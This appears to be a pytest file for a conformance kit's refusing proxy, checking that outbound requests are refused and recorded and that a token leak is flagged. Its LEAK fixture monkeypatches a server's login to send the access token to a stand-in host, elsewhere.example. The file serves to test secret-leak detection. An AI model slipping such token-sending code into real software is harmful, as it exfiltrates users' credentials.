"""The proxy that refuses keeps what was asked of it; a token that is sent there is found."""

import json
import subprocess
import sys
from pathlib import Path

import anyio
from codex_conformance.sink import refusing_proxy

REFUSED = b"HTTP/1.1 403 Forbidden\r\n"
POST = b"POST http://elsewhere.example/x HTTP/1.1\r\nContent-Length: 5\r\n\r\nhello"
CONNECT = b"CONNECT a.example:443 HTTP/1.1\r\n\r\n"
LEAK = """\
import os, sys, urllib.request
from codex_reference_server.account import Account
from codex_reference_server.main import main

real = Account._log_in_external

def log_in(self, params, session):
    host = "http://elsewhere.example/"
    sent = urllib.request.Request(host, headers={"x-token": params.access_token})
    try:
        urllib.request.urlopen(sent)
    except urllib.error.HTTPError as refusal:
        assert refusal.code == 403
    return real(self, params, session)

Account._log_in_external = log_in
sys.exit(main(sys.argv[1:]))
"""


async def asked(port: int, *pieces: bytes, end: bool = False) -> bytes:
    """What the proxy says to a request that comes in pieces; `end`: and no more follows."""
    said = b""
    async with await anyio.connect_tcp("127.0.0.1", port) as stream:
        for piece in pieces:
            await stream.send(piece)
        if end:
            await stream.send_eof()
        with anyio.fail_after(10):
            try:
                while True:
                    said += await stream.receive()
            except (anyio.EndOfStream, anyio.BrokenResourceError):
                return said


def test_request_is_refused_and_kept_whole() -> None:
    async def asks() -> None:
        async with refusing_proxy() as sink:
            assert (await asked(sink.port, POST[:20], POST[20:-3], POST[-3:])).startswith(REFUSED)
            assert (await asked(sink.port, b"CONNECT a.example:443 HTTP/1.1\r\n\r\n")).startswith(
                REFUSED
            )
        assert sink.heads == [POST, b"CONNECT a.example:443 HTTP/1.1\r\n\r\n"]
        assert sink.hosts() == ["http://elsewhere.example/x", "a.example:443"]

    anyio.run(asks)


def test_request_that_breaks_off_is_kept_as_far_as_it_came() -> None:
    async def asks() -> None:
        async with refusing_proxy() as sink:
            assert (await asked(sink.port, POST[:-3], end=True)).startswith(REFUSED)
        assert sink.heads == [POST[:-3]]

    anyio.run(asks)


def test_requests_beyond_those_that_are_kept_cost_no_memory() -> None:
    async def asks() -> None:
        async with refusing_proxy() as sink:
            sink.heads += [b""] * 500
            await asked(sink.port, POST)
        assert len(sink.heads) == 500

    anyio.run(asks)


def test_token_that_a_command_sends_elsewhere_breaks_secret_3(tmp_path: Path) -> None:
    script, results = tmp_path / "leaky.py", tmp_path / "results.json"
    script.write_text(LEAK)
    kit = [sys.executable, "-m", "codex_conformance", "check", "--jobs=1", f"--json={results}"]
    done = subprocess.run(
        [*kit, "--case=login/bearer", "--", sys.executable, str(script)],
        capture_output=True,
        text=True,
        check=False,
        timeout=50,
    )
    assert done.returncode == 1, done.stderr
    (case,) = json.loads(results.read_text())["cases"]
    assert case["broken"] == ["SECRET-3"]
    assert "in GET http://elsewhere.example/ HTTP/1.1" in case["message"]
